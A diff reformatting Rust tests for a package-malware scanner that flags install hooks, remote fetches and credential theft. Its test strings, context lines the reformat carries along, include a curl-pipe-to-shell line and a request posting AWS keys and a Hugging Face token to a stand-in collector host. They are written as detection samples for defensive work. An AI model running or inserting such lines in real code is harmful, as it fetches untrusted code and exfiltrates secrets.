@@ -4,7 +4,7 @@
 //! fake, and nothing here is a working payload; they are strings that a
 //! scanner reads, never code that anything runs.
 
-use squatch::findings::{scan_source_with_floor, RuleSet, Role, Severity};
+use squatch::findings::{scan_source_with_floor, Role, RuleSet, Severity};
 
 struct Case {
     id: &'static str,
@@ -202,7 +202,10 @@ fn role_restricted_rules_stay_in_their_role() {
     // The true positives of install-only rules do not fire in a plain module.
     for id in ["hook-cmdclass", "install-network", "hook-install-override"] {
         let c = cases().into_iter().find(|c| c.id == id).unwrap();
-        assert!(!ids(&c.tp, Role::Module).iter().any(|g| g == id), "{id} fired in a module");
+        assert!(
+            !ids(&c.tp, Role::Module).iter().any(|g| g == id),
+            "{id} fired in a module"
+        );
     }
     // Build configuration is not code: CI snippets in pyproject.toml do not fire.
     let ci = r#"before-build = "curl https://payload.invalid/x.sh | sh""#;
@@ -212,7 +215,9 @@ fn role_restricted_rules_stay_in_their_role() {
 #[test]
 fn comments_and_calls_with_a_space_are_handled() {
     assert!(ids("# exec(base64.b64decode(x))", Role::Install).is_empty());
-    assert!(ids("body = urlopen (url).read ()", Role::Module).iter().any(|g| g == "dl-content-fetch"));
+    assert!(ids("body = urlopen (url).read ()", Role::Module)
+        .iter()
+        .any(|g| g == "dl-content-fetch"));
 }
 
 #[test]
@@ -230,8 +235,17 @@ fn severity_weighs_where_code_runs() {
     assert_eq!(sev(Role::Peripheral), Some(Severity::Low));
     // A long SDK module weighs a co-occurrence one level lower than a short one.
     let long = format!("{}{src}\n", filler(500));
-    let f = scan_source_with_floor(RuleSet::builtin(), long.as_bytes(), Role::Module, Severity::Info);
-    let beacon = f.findings.iter().find(|f| f.rule_id == "combo-host-beacon").unwrap();
+    let f = scan_source_with_floor(
+        RuleSet::builtin(),
+        long.as_bytes(),
+        Role::Module,
+        Severity::Info,
+    );
+    let beacon = f
+        .findings
+        .iter()
+        .find(|f| f.rule_id == "combo-host-beacon")
+        .unwrap();
     assert_eq!(beacon.severity, Severity::Medium);
 }
 
@@ -251,11 +265,21 @@ fn reading_hf_token_like_huggingface_hub_is_not_high() {
 #[test]
 fn evidence_never_carries_a_secret() {
     let src = "k = 'AKIAIOSFODNN7EXAMPLE'\ns = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'\nt = 'hf_FAKEexampleTOKENabcdefghijklmnopqrst'\nrequests.post('https://collector.invalid', data={'AWS_ACCESS_KEY_ID': k, 'AWS_SECRET_ACCESS_KEY': s, 'HF_TOKEN': t})\n";
-    let scan = scan_source_with_floor(RuleSet::builtin(), src.as_bytes(), Role::Install, Severity::Info);
+    let scan = scan_source_with_floor(
+        RuleSet::builtin(),
+        src.as_bytes(),
+        Role::Install,
+        Severity::Info,
+    );
     assert!(!scan.findings.is_empty());
     for f in &scan.findings {
         for secret in ["AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI", "hf_FAKEexample"] {
-            assert!(!f.evidence.contains(secret), "{}: {}", f.rule_id, f.evidence);
+            assert!(
+                !f.evidence.contains(secret),
+                "{}: {}",
+                f.rule_id,
+                f.evidence
+            );
         }
     }
 }
